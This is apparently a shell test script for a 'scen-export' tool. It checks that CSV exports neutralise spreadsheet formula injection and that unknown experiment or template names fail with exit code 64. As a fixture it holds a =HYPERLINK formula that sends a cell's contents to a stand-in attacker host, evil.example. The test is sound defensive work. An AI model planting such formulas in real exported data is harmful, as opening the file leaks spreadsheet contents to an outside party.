# scen-export: a CSV text field that a spreadsheet would run as a formula
# (starting with =, +, -, @, a tab or a CR) gets a ' before it, in every
# text column; JSONL keeps the texts exact. An --experiment or --template
# that neither the database nor the config knows is a usage error (64)
# naming it; one declared but not served yet exports no rows (exit 0).
. "$(dirname "$0")/../lib/test-lib.sh"
fake_start
write_config
{
	req "=1+1" "@sess" female older warm 1
	req "-2" "+sess" female older warm 2
	req "plain" "s-plain" female older warm 3
} | scen-serve-stdin >out 2>err
is "served" "$(j 'r["status"]' out | sort -u)" ok
# texts as a model might write them (scen stores them unmodified)
python3 - scen.db <<'PY'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
# by the request each scenario was made for: the three calls end in any order
of = "(SELECT scenario FROM servings WHERE request_id = '%s')"
c.execute("UPDATE scenarios SET text = ? WHERE id = " + of % "=1+1",
          ('=HYPERLINK("http://evil.example/?"&A1,"click")',))
c.execute("UPDATE scenarios SET text = ? WHERE id = " + of % "-2",
          ("\tTab, then text",))
c.execute("UPDATE scenarios SET account = ? WHERE id = " + of % "plain",
          ("@groq-a",))
c.commit()
PY
scen-export --format csv >s.csv 2>s.err
is "CSV: exit 0" "$?:$(cat s.err)" "0:"
scen-export >s.jsonl
python3 - s.csv s.jsonl >cmp.out <<'PY'
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
js = [json.loads(l) for l in open(sys.argv[2], encoding="utf-8")]
out = []
for r, j in zip(rows, js):
    for k, v in r.items():
        jv = j[k]
        if isinstance(jv, str) and jv[:1] in ("=", "+", "-", "@", "\t", "\r"):
            if v != "'" + jv:
                out.append("%s %r: CSV %r" % (k, jv, v))
        elif isinstance(jv, str) and v != jv:
            out.append("%s %r: CSV %r" % (k, jv, v))
for r in rows:
    for k, v in r.items():
        if v[:1] in ("=", "+", "-", "@", "\t", "\r"):
            out.append("raw formula in %s: %r" % (k, v))
print("\n".join(out) or "ok")
PY
is "CSV: every text that starts a formula has a ' before it, the rest as they are" "$(cat cmp.out)" ok
is "CSV: the request id, session, text and account so prefixed" \
	"$(grep -c -e "^[0-9]*,'=1+1,'@sess," -e "^[0-9]*,'-2,'+sess," s.csv):$(grep -c "\"'=HYPERLINK(\"\"http" s.csv):$(grep -c "'@groq-a" s.csv):$(grep -c "'	Tab, then text" s.csv)" "2:1:1:1"
is "JSONL: the texts exact" \
	"$(j 'r["request_id"] + " " + r["session"] + " " + r["text"][:10]' s.jsonl | sort)" \
	"-2 +sess 	Tab, then
=1+1 @sess =HYPERLINK
plain s-plain Scenario #"
scen-export --what scenarios --format csv | grep -c "^sc-[0-9a-f]*,trust-2026,hiring,[0-9a-f]*,.*\"'=HYPERLINK" >n.out
is "CSV scenarios: the same" "$(cat n.out)" 1

# names that nobody knows
for a in "--experiment nope" "--template nope" "--experiment trust-2026 --template nope" \
	"--experiment nope --template hiring" "--what scenarios --experiment nope" \
	"--what templates --template nope"; do
	# shellcheck disable=SC2086
	scen-export $a >u.out 2>u.err
	is "$a: exit 64, nothing written" "$?:$(wc -c <u.out | tr -d ' ')" "64:0"
	case $a in
	*"--experiment nope"*) w="--experiment 'nope': no such experiment in $T/scen.db or the config" ;;
	*"--experiment trust-2026"*) w="--template 'nope': no such template of experiment trust-2026 in $T/scen.db or the config" ;;
	*) w="--template 'nope': no such template in $T/scen.db or the config" ;;
	esac
	is "$a: says which name" "$(cat u.err)" "scen-export: $w"
done
# declared, never served: no rows, no error
scen-export --experiment other-2026 --format csv >o.csv 2>o.err
is "declared, not served: exit 0, the header only" "$?:$(wc -l <o.csv | tr -d ' '):$(cat o.err)" "0:1:"
# served once, no longer in the config: its rows still export
sed -i '/^  other-2026:/,$d' scen.yaml
cat >>scen.yaml <<'YAML'
  next-2027:
    system: "x"
    templates:
      hiring:
        prompt: "Write about a {gender} candidate."
        factors:
          gender: {levels: [female, male]}
YAML
scen-export --experiment trust-2026 --template hiring >k.jsonl 2>k.err
is "known to the database: exit 0, its rows" "$?:$(wc -l <k.jsonl | tr -d ' ')" "0:3"
sed -i '/^  trust-2026:/,/^  next-2027:/{/^  next-2027:/!d}' scen.yaml
scen-export --experiment trust-2026 >k2.jsonl 2>k2.err
is "in the database only: exit 0, its rows" "$?:$(wc -l <k2.jsonl | tr -d ' '):$(cat k2.err)" "0:3:"
done_testing
